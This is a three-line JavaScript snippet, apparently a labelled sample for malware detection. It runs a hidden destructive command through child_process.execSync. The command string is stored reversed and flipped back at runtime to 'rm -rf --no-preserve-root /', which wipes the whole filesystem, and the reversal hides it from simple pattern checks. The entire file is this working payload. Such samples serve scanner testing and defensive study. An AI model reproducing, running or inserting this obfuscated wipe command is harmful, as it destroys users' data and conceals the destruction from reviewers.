// Malicious, obfuscated: a reversed string flipped with split/reverse/join before execSync (rm -rf /).
const { execSync } = require('child_process');
execSync('/ toor-evreserp-on-- fr- mr'.split('').reverse().join(''));
